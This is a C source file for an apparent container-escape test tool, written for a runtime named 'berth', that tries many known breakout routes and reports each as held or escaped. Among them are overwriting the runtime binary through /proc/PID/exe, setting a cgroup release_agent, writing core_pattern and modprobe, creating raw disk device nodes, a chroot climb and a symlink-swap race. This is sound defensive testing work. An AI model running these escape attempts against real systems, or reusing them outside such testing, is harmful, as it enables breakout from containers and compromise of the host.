/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack.c - runs in a container and tries to get out, one known way after another.
 *
 * usage: attack NAME [ARGUMENT]
 *
 * Prints "held NAME" and ends with 0 if the way is closed; else "ESCAPED ..." for each thing it reached,
 * and ends with 1. Static: it needs nothing of the image.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int escapes;

static void __attribute__((__format__(__printf__, 1, 2))) escaped(const char *format, ...)
{
	va_list args;
	escapes++;
	printf("ESCAPED ");
	va_start(args, format);
	vprintf(format, args);
	va_end(args);
	printf("\n");
	(void)fflush(stdout);
}

static int can_write(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t put = write(fd, text, strlen(text));
	close(fd);
	return put > 0;
}

/* Whether the process is one of berth's own, and not yet what it will execute. */
static int is_berth(const char *directory)
{
	char path[320], comm[64] = "";
	snprintf(path, sizeof(path), "%s/comm", directory);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t got = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	return got > 0 && strncmp(comm, "berth", 5) == 0;
}

/* What was opened counts if the process is still berth's then. */
static void try_open(const char *directory, const char *name, int flags)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", directory, name);
	int fd = open(path, flags | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return;
	if (is_berth(directory))
		escaped("opened %s", path);
	close(fd);
}

/* A process of berth that is on its way into this container. */
static void look_at_process(const char *pid)
{
	char directory[300], path[320];
	snprintf(directory, sizeof(directory), "/proc/%.200s", pid);
	if (!is_berth(directory))
		return;
	printf("seen %s\n", pid);
	/* Readable it would be only a leak; what counts is the way on from there. */
	snprintf(path, sizeof(path), "%s/exe", directory);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		char again[64];
		snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
		int writable = open(again, O_WRONLY | O_CLOEXEC);
		for (int i = 0; writable < 0 && errno == ETXTBSY && i < 2000000; i++)
			writable = open(again, O_WRONLY | O_CLOEXEC);
		if (writable >= 0 && write(writable, "#!/bin/attack\n", 14) > 0)
			escaped("overwrote the program of berth");
		if (writable >= 0)
			close(writable);
		close(fd);
	}
	try_open(directory, "mem", O_RDWR);
	try_open(directory, "root/etc/shadow", O_RDONLY);
	try_open(directory, "cwd/etc/shadow", O_RDONLY);
	for (int i = 3; i < 32; i++) {
		char name[32];
		snprintf(name, sizeof(name), "fd/%d/etc/shadow", i);
		try_open(directory, name, O_RDONLY);
	}
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
		if (is_berth(directory))
			escaped("traced %s", pid);
		ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
	}
}

/* Watches /proc for as many seconds as the argument says. */
static void attack_entering(const char *seconds)
{
	time_t end = time(NULL) + (seconds ? atoi(seconds) : 1);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc && (entry = readdir(proc));)
			if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) > 1)
				look_at_process(entry->d_name);
		if (proc)
			(void)closedir(proc);
	}
}

static void attack_descriptors(const char *unused)
{
	(void)unused;
	for (int fd = 3; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			escaped("descriptor %d was left open", fd);
	char path[4096];
	if (syscall(SYS_getcwd, path, sizeof(path)) < 0 || path[0] != '/')
		escaped("the working directory is outside");
}

static void attack_proc(const char *unused)
{
	(void)unused;
	static const char *const writes[] = { "/proc/sysrq-trigger",
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
		"/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/hotplug",
		"/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper",
		"/sys/power/state", "/proc/1/oom_adj", "/proc/irq/0/smp_affinity",
		"/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent" };
	for (size_t i = 0; i < sizeof(writes) / sizeof(writes[0]); i++)
		if (can_write(writes[i], "x"))
			escaped("wrote %s", writes[i]);
	static const char *const reads[] = { "/proc/kcore", "/proc/keys", "/proc/timer_list",
		"/proc/sched_debug", "/proc/kallsyms_of_no_use" };
	for (size_t i = 0; i < sizeof(reads) / sizeof(reads[0]); i++) {
		char byte;
		int fd = open(reads[i], O_RDONLY | O_CLOEXEC);
		if (fd >= 0 && read(fd, &byte, 1) > 0)
			escaped("read %s", reads[i]);
		if (fd >= 0)
			close(fd);
	}
	DIR *firmware = opendir("/sys/firmware");
	int count = 0;
	while (firmware && readdir(firmware))
		count++;
	if (count > 2)
		escaped("listed /sys/firmware");
	if (firmware)
		(void)closedir(firmware);
}

static void attack_devices(const char *unused)
{
	(void)unused;
	static const struct {
		mode_t type;
		unsigned int major, minor;
	} nodes[] = { { S_IFCHR, 1, 1 }, { S_IFCHR, 1, 4 }, { S_IFBLK, 8, 0 }, { S_IFBLK, 254, 0 },
		{ S_IFBLK, 7, 0 }, { S_IFCHR, 10, 200 }, { S_IFCHR, 10, 232 } };
	static const char *const places[] = { "/tmp/node", "/dev/node", "/dev/shm/node" };
	for (size_t i = 0; i < sizeof(nodes) / sizeof(nodes[0]); i++)
		for (size_t j = 0; j < sizeof(places) / sizeof(places[0]); j++) {
			if (mknod(places[j], nodes[i].type | 0666,
				    makedev(nodes[i].major, nodes[i].minor)) < 0)
				continue;
			int fd = open(places[j], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
			if (fd >= 0) {
				escaped("opened the device %u:%u at %s", nodes[i].major,
					nodes[i].minor, places[j]);
				close(fd);
			}
			unlink(places[j]);
		}
}

/* What stands in /sys/fs/cgroup: v1 is never writable, and nothing shows where the group stands on the host. */
static void look_at_groups(void)
{
	char line[512], path[512];
	FILE *groups = fopen("/proc/self/cgroup", "re");
	while (groups && fgets(line, sizeof(line), groups)) {
		char *end = strchr(line, '\n');
		if (end)
			*end = '\0';
		const char *group = strrchr(line, ':');
		if (strstr(line, "/..") || strstr(line, "berth-"))
			escaped("the group is seen from outside: %s", line);
		char *name = strchr(line, ':');
		if (!group || !name || name + 1 == group)
			continue;
		snprintf(path, sizeof(path), "/sys/fs/cgroup/%.*s/tasks", (int)(group - name - 1),
			name + 1);
		if (can_write(path, "0"))
			escaped("wrote %s", path);
	}
	if (groups)
		(void)fclose(groups);
	static const char *const files[] = { "/sys/fs/cgroup/devices/devices.allow",
		"/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/pids/pids.max",
		"/sys/fs/cgroup/cpu/cpu.cfs_quota_us", "/sys/fs/cgroup/memory.max",
		"/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/unified/pids.max" };
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		if (can_write(files[i], "max"))
			escaped("wrote %s", files[i]);
}

static void attack_cgroup(const char *unused)
{
	(void)unused;
	(void)mkdir("/tmp/cg", 0755);
	static const char *const controllers[] = { "memory", "pids", "devices", "freezer", "cpu",
		"name=systemd" };
	(void)unshare(CLONE_NEWNS);
	for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); i++) {
		if (mount("cgroup", "/tmp/cg", "cgroup", 0, controllers[i]) < 0)
			continue;
		if (can_write("/tmp/cg/release_agent", "/bin/attack"))
			escaped("set the release agent of %s", controllers[i]);
		if (can_write("/tmp/cg/devices.allow", "a"))
			escaped("allowed all devices");
		if (mkdir("/tmp/cg/mine", 0755) == 0)
			escaped("made a group in v1 %s", controllers[i]);
		(void)umount2("/tmp/cg", MNT_DETACH);
	}
	look_at_groups();
	if (mount("cgroup", "/tmp/cg", "cgroup", 0, "none,name=x,release_agent=/bin/attack") == 0)
		escaped("mounted a hierarchy with a release agent");
}

static void attack_namespaces(const char *unused)
{
	(void)unused;
	if (unshare(CLONE_NEWUSER) == 0)
		escaped("made a user namespace");
	long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);
	if (pid == 0)
		_exit(0);
	if (pid > 0)
		escaped("cloned into a user namespace");
	unsigned long long args[8] = { CLONE_NEWUSER, 0, 0, 0, SIGCHLD };
	pid = syscall(SYS_clone3, args, sizeof(args));
	if (pid == 0)
		_exit(0);
	if (pid > 0)
		escaped("cloned into a user namespace by clone3");
}

static void attack_calls(const char *unused)
{
	(void)unused;
	struct file_handle {
		unsigned int bytes;
		int type;
		unsigned char handle[8];
	} handle = { 8, 1, { 2 } };
	if (syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY) >= 0 || errno != EPERM)
		escaped("open_by_handle_at: %s", strerror(errno));
	if (syscall(SYS_init_module, "", 0UL, "") >= 0 || errno != EPERM)
		escaped("init_module: %s", strerror(errno));
	if (syscall(SYS_kexec_load, 0, 0, NULL, 0) >= 0 || errno != EPERM)
		escaped("kexec_load: %s", strerror(errno));
	if (syscall(SYS_bpf, 0, NULL, 0) >= 0 || errno != EPERM)
		escaped("bpf: %s", strerror(errno));
	if (syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0) >= 0 || errno != EPERM)
		escaped("perf_event_open: %s", strerror(errno));
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) >= 0 || errno != EPERM)
		escaped("keyctl: %s", strerror(errno));
	if (syscall(SYS_io_uring_setup, 1, NULL) >= 0 || errno != ENOSYS)
		escaped("io_uring_setup: %s", strerror(errno));
	int pts = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (pts >= 0 && (ioctl(pts, TIOCSTI, "x") == 0 || errno != EPERM))
		escaped("TIOCSTI: %s", strerror(errno));
	if (socket(40, SOCK_STREAM, 0) >= 0 || errno != EPERM)
		escaped("vsock: %s", strerror(errno));
	if (syscall(SYS_swapon, "/nothing", 0) >= 0 || errno != EPERM)
		escaped("swapon: %s", strerror(errno));
}

static void attack_mount(const char *unused)
{
	(void)unused;
	(void)mkdir("/tmp/m", 0755);
	if (mount("proc", "/tmp/m", "proc", 0, NULL) == 0)
		escaped("mounted a /proc without masks");
	if (mount("sysfs", "/tmp/m", "sysfs", 0, NULL) == 0)
		escaped("mounted a /sys without masks");
	if (mount("/dev/loop0", "/tmp/m", "ext4", 0, NULL) == 0)
		escaped("mounted a disk");
	if (mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		escaped("made /sys writable");
	if (umount2("/proc/sys", MNT_DETACH) == 0 || umount2("/proc/kcore", MNT_DETACH) == 0)
		escaped("took a mask away");
}

/* Out of the root by a second chroot and a working directory above it. */
static void attack_chroot(const char *unused)
{
	(void)unused;
	struct stat before, after;
	(void)mkdir("/tmp/jail", 0755);
	if (stat("/", &before) < 0)
		return;
	int up = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chroot("/tmp/jail") < 0)
		return; /* not even that */
	if (fchdir(up) < 0)
		return;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (stat(".", &after) == 0 &&
		(after.st_ino != before.st_ino || after.st_dev != before.st_dev))
		escaped("climbed above the root");
}

static void attack_rights(const char *unused)
{
	(void)unused;
	char line[256];
	FILE *status = fopen("/proc/self/status", "re");
	while (status && fgets(line, sizeof(line), status)) {
		unsigned long long value = 0;
		if (sscanf(line, "CapInh: %llx", &value) == 1 && value)
			escaped("inheritable capabilities %llx", value);
		if (sscanf(line, "CapAmb: %llx", &value) == 1 && value)
			escaped("ambient capabilities %llx", value);
		if (sscanf(line, "Seccomp: %llu", &value) == 1 && value != 2)
			escaped("no seccomp filter");
	}
	if (status)
		(void)fclose(status);
	FILE *sockets = fopen("/proc/net/unix", "re");
	while (sockets && fgets(line, sizeof(line), sockets))
		if (strchr(line, '@'))
			escaped("an abstract socket: %s", line);
	if (sockets)
		(void)fclose(sockets);
}

/* Swaps a directory and a link to / as fast as it can. */
static void attack_swap(const char *seconds)
{
	time_t end = time(NULL) + (seconds ? atoi(seconds) : 1);
	(void)mkdir("/tmp/d", 0777);
	(void)!symlink("../../../../../../..", "/tmp/l");
	while (time(NULL) < end)
		for (int i = 0; i < 1000; i++)
			(void)syscall(SYS_renameat2, AT_FDCWD, "/tmp/d", AT_FDCWD, "/tmp/l", 2);
}

static const struct {
	const char *name;
	void (*run)(const char *argument);
} attacks[] = {
	{ "entering", attack_entering },
	{ "descriptors", attack_descriptors },
	{ "proc", attack_proc },
	{ "devices", attack_devices },
	{ "cgroup", attack_cgroup },
	{ "namespaces", attack_namespaces },
	{ "calls", attack_calls },
	{ "mount", attack_mount },
	{ "chroot", attack_chroot },
	{ "rights", attack_rights },
	{ "swap", attack_swap },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(argv[1], attacks[i].name) != 0)
			continue;
		attacks[i].run(argc > 2 ? argv[2] : NULL);
		if (escapes == 0)
			printf("held %s\n", argv[1]);
		return escapes ? 1 : 0;
	}
	(void)fprintf(stderr, "usage: attack NAME [ARGUMENT]\n");
	return 2;
}
